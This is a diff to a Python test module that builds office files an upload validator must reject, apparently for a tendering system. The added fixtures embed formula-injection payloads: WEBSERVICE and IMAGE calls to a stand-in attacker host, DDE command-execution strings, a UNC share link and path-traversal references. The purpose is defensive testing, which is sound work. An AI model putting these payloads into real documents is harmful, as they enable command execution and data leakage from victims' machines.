@@ -1,6 +1,7 @@
 """DOCX, XLSX, ODT and ODS files that must be refused, each named by what it does."""
 
 from tests.functions.tenders.attached.files.compound import compound, text
+from tests.functions.tenders.attached.files.hostile_word import nested_fields, of_shown
 from tests.functions.tenders.attached.files.packages import (
     BOOK_TYPE,
     ODS_TYPE,
@@ -75,7 +76,7 @@ def of_word() -> dict[str, File]:
         "no text": zipped({name: part for name, part in docx_parts().items() if name != "_rels/.rels"}),
         "broken XML": docx(body="<w:p>"),
     }
-    return {f"DOCX: {what}": ("a.docx", content) for what, content in made.items()}
+    return {f"DOCX: {what}": ("a.docx", content) for what, content in (made | nested_fields() | of_shown()).items()}
 
 
 def of_sheets() -> dict[str, File]:
@@ -104,6 +105,37 @@ def of_sheets() -> dict[str, File]:
             xlsx_parts() | {"xl/connections.xml": b'<c><connection><webPr url="a"/></connection></c>'}
         ),
         "data when it opens": zipped(xlsx_parts() | {"xl/connections.xml": b'<c><connection refreshOnLoad="1"/></c>'}),
+        "data of a server": zipped(
+            xlsx_parts()
+            | {"xl/connections.xml": b'<connections><connection><dbPr connection="a"/></connection></connections>'}
+        ),
+        "a query": zipped(xlsx_parts() | {"xl/queryTables/queryTable1.xml": b'<queryTable refreshOnLoad="1"/>'}),
+        "a name that asks a server": xlsx(
+            formula("evil"), more=_named('_xlfn.WEBSERVICE("https://attaquant.example/")')
+        ),
+        "a name that runs": xlsx(formula("evil"), more=_named("cmd|'/c calc'!A1")),
+        "a name that runs, between quotes": xlsx(formula("evil"), more=_named("'cmd'|'/c calc'!A1")),
+        "a name on a share": xlsx(more=_named(r"'\\attaquant.example\a\[b.xlsx]c'!A1")),
+        "a picture elsewhere": xlsx(formula('_xlfn.IMAGE("https://attaquant.example/x.png")')),
+        "a call behind the name of a column": xlsx(formula('T[a"b]+WEBSERVICE("https://attaquant.example/")')),
+        "a condition that asks a server": xlsx(
+            more=_sheet(
+                '<cfRule type="expression"><formula>WEBSERVICE("https://attaquant.example/")=1</formula></cfRule>'
+            )
+        ),
+        "a bound that asks a server": xlsx(
+            more=_sheet('<cfvo type="formula" val="WEBSERVICE(&quot;https://attaquant.example/&quot;)"/>')
+        ),
+        "a validation that asks a server": xlsx(
+            more=_sheet(
+                '<dataValidation><formula1>WEBSERVICE("https://attaquant.example/")</formula1></dataValidation>'
+            )
+        ),
+        "a validation that asks a server last": xlsx(
+            more=_sheet(
+                '<dataValidation><formula2>WEBSERVICE("https://attaquant.example/")</formula2></dataValidation>'
+            )
+        ),
         "an object": zipped(xlsx_parts() | {"xl/embeddings/oleObject1.bin": OLE}),
         "macros by type": zipped(
             xlsx_parts()
@@ -115,6 +147,15 @@ def of_sheets() -> dict[str, File]:
         ),
     }
     return {f"XLSX: {what}": ("a.xlsx", content) for what, content in made.items()}
+
+
+def _named(told: str) -> dict[str, bytes]:
+    text = f'<workbook><sheets/><definedNames><definedName name="evil">{told}</definedName></definedNames></workbook>'
+    return {"xl/workbook.xml": text.encode()}
+
+
+def _sheet(inside: str) -> dict[str, bytes]:
+    return {"xl/worksheets/sheet1.xml": f"<worksheet><sheetData/>{inside}</worksheet>".encode()}
 
 
 def of_opendocument() -> dict[str, File]:
@@ -142,6 +183,10 @@ def of_opendocument() -> dict[str, File]:
         "an object unseen": zipped(odf_parts(ODT_TYPE) | {"ObjectReplacements/Object 1": OLE}, stored=("mimetype",)),
         "a page elsewhere": odf(ODT_TYPE, '<draw:floating-frame xlink:href="https://attaquant.example/"/>'),
         "a picture elsewhere": odf(ODT_TYPE, '<draw:image xlink:href="https://attaquant.example/a.png"/>'),
+        "a picture above": odf(ODT_TYPE, '<draw:image xlink:href="Pictures/../../x.png"/>'),
+        "a picture told twice": odf(
+            ODT_TYPE, '<draw:image xlink:href="https://attaquant.example/a.png" text:href="Pictures/a.png"/>'
+        ),
         "a file elsewhere": odf(ODT_TYPE, '<text:section-source xlink:href="../../etc/passwd"/>'),
         "a program asked": odf(ODT_TYPE, '<office:dde-source office:dde-application="cmd"/>'),
         "entities": zipped(odf_parts(ODT_TYPE) | {"meta.xml": _DTD}, stored=("mimetype",)),
@@ -156,6 +201,23 @@ def of_opendocument() -> dict[str, File]:
     sheets = {
         "a formula that runs": odf(
             ODS_TYPE, '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'
+        ),
+        "a formula that asks a server": odf(
+            ODS_TYPE,
+            '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://attaquant.example/&quot;)"/>',
+        ),
+        "a name that runs": odf(
+            ODS_TYPE, '<table:named-expression table:expression="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'
+        ),
+        "a condition that asks a server": odf(
+            ODS_TYPE,
+            '<table:content-validation table:condition="of:is-true-formula(WEBSERVICE(&quot;https://a&quot;))"/>',
+        ),
+        "a format that asks a server": odf(
+            ODS_TYPE, '<table:condition table:value="formula-is(WEBSERVICE(&quot;https://attaquant.example/&quot;))"/>'
+        ),
+        "a cell elsewhere": odf(
+            ODS_TYPE, """<table:table-cell table:formula="of:=['https://attaquant.example/a.ods'#$a.A1]"/>"""
         ),
         "a table elsewhere": odf(ODS_TYPE, '<table:table-source xlink:href="https://attaquant.example/a.ods"/>'),
     }
